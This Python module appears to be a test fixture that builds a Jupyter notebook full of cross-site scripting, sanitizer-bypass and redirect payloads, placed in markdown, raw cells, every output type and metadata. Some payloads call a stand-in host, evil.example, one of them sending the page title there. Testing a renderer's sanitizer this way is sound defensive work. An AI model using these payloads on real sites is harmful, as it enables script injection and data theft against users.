# ruff: noqa: E501  (markup, a line each)
"""Notebooks of strangers: markup that would run, load, send or go somewhere if a page took it as it is."""

import nbformat

v4 = nbformat.v4
PWN = "window.PWN=(window.PWN||0)+1"
AWAY = "https://evil.example/?"

MARKUP = {
    "handler": f'<img src=x onerror="{PWN}"><details open ontoggle="{PWN}">d</details>',
    "load": f'<svg onload="{PWN}"><g onclick="{PWN}"><text y=\'9\'>t</text></g></svg><body onload="{PWN}">',
    "address": f'<a href="javascript:{PWN}">a</a><a href="java\nscript:{PWN}">b</a><a href="JAVASCRIPT&colon;{PWN}">c</a>',
    "data address": f'<a href="data:text/html,<script>{PWN}</script>">a</a><a href="vbscript:x">b</a>',
    "refresh": f"<meta http-equiv='refresh' content='0;url={AWAY}refresh'>",
    "away": f"<img src=x onerror=\"location.href='{AWAY}'+document.title\">",
    "open": f"<img src=x onerror=\"window.open('{AWAY}open')\">",
    "frame": f"<iframe srcdoc=\"<script>parent.{PWN}</script>\"></iframe><object data='{AWAY}o'></object><embed src='{AWAY}e'>",
    "form": f"<form id=f action='{AWAY}form'><input name=q value=1 autofocus onfocus='f.submit()'><button>b</button></form>",
    "base": f"<base href='{AWAY}'><link rel=prefetch href='{AWAY}prefetch'><link rel=stylesheet href='{AWAY}css'>",
    "style": f"<style>@import url({AWAY}css); body{{background:url({AWAY}bg)}}</style>"
    f"<p style=\"position:fixed;inset:0;background:url('{AWAY}p')\">over all</p>",
    "image": f"<img src='{AWAY}img' srcset='{AWAY}set 2x'><video src='{AWAY}v' poster='{AWAY}poster'></video>",
    "script": f"<script>{PWN}</script><script type=module>{PWN}</script></script><script src='{AWAY}js'></script>",
    "end": f'</div></div></main></body></html><script>{PWN}</script><body onpageshow="{PWN}">',
    "explorer": f'<tux-explorer data-choice="x" onclick="{PWN}"><script>{PWN}</script></tux-explorer>',
    "explorer like ours": f'<tux-explorer><script type="application/json" data-case="x" onload="{PWN}">"AAAA"</script>'
    f'<script>{PWN}</script><img src=x onerror="{PWN}"><a href="javascript:{PWN}">e</a></tux-explorer>',
    "mutation": f'<svg></p><style><a id="</style><img src=1 onerror={PWN}>">',
    "mathematics": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={PWN}&gt;">',
    "annotation": f"<math><annotation-xml encoding='text/html'><img src=x onerror=\"{PWN}\"></annotation-xml></math>",
    "drawing": f"<svg><a xlink:href=\"javascript:{PWN}\" href=\"javascript:{PWN}\"><text y='9'>s</text></a><use href='{AWAY}u#x'/>"
    f"<image href='{AWAY}i'/><animate attributeName=href to='javascript:{PWN}'/><set attributeName=onload to='{PWN}'/>"
    f'<foreignObject><img src=x onerror="{PWN}"></foreignObject></svg>',
    "hidden": f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript><template><img src=x onerror={PWN}></template>',
    "names": "<p id='tux-explorer-css'>{</p><img name='body' id='tux-x'><p id='tux-explorer-css' class='x'>1</p>",
    "comment": f'<!--><img src=x onerror="{PWN}">-->',
    "popover": "<button popovertarget=x>p</button><dialog open>d</dialog><a href='https://evil.example' ping='https://evil.example/p' target=_top>w</a>",
}


def notebook() -> nbformat.NotebookNode:
    """One notebook with all of it, in Markdown, raw cells, outputs of every kind, and in every name."""
    nb = v4.new_notebook()
    bad = '"><img src=x onerror="' + PWN + '">'
    for name, markup in MARKUP.items():
        html = v4.new_output("display_data", data={"text/html": markup, "text/plain": name})
        raw = v4.new_raw_cell(markup, metadata={"raw_mimetype": "text/html"})
        nb.cells += [v4.new_markdown_cell(f"{name}\n\n{markup}\n"), raw, v4.new_code_cell(markup, outputs=[html])]
    links = "[a](javascript:PWN) ![i](https://evil.example/i) <javascript:PWN> [b][r]\n\n[r]: javascript:PWN 'x'"
    nb.cells.append(
        v4.new_markdown_cell(
            f"# T{bad}\n\nP{bad}\n\n{links}\n\n$\\href{{javascript:PWN}}{{x}} <img src=x onerror={PWN}>$"
        )
    )
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{PWN}\"><script>{PWN}</script></svg>"
    kinds = {
        "image/svg+xml": svg,
        "application/javascript": PWN,
        "text/markdown": bad,
        "text/latex": f"$$x${bad}",
        "text/vnd.mermaid": f"graph LR{bad}",
        f"x/{bad}": bad,
        "image/png": f"AAAA{bad}",
        "application/vnd.jupyter.widget-view+json": {"model_id": bad},
    }
    outputs = [
        v4.new_output("display_data", data={kind: value}, metadata={kind: {"width": bad, "height": bad}})
        for kind, value in kinds.items()
    ]
    outputs += [
        v4.new_output("stream", name="stdout", text=f"{bad}\x1b[31m{bad}\x1b]8;;javascript:PWN\x07l\x1b]8;;\x07")
    ]
    outputs += [v4.new_output("error", ename=bad, evalue=bad, traceback=[bad])]
    cell = v4.new_code_cell(bad, outputs=outputs, metadata={"tags": [bad], "jupyter": {"source_hidden": bad}})
    nb.cells.append(cell)
    state = {"x": {"model_name": "HTMLModel", "state": {"value": bad}}}
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": state, "version_major": 2}}
    nb.metadata = nbformat.from_dict({"title": bad, "widgets": widgets, "authors": [{"name": bad}], "toc": bad})
    nb.metadata.language_info = nbformat.from_dict({"name": bad, "pygments_lexer": bad, "mimetype": bad})
    nb.metadata.kernelspec = nbformat.from_dict({"name": bad, "display_name": bad, "language": bad})
    nbformat.validate(nb)
    return nb
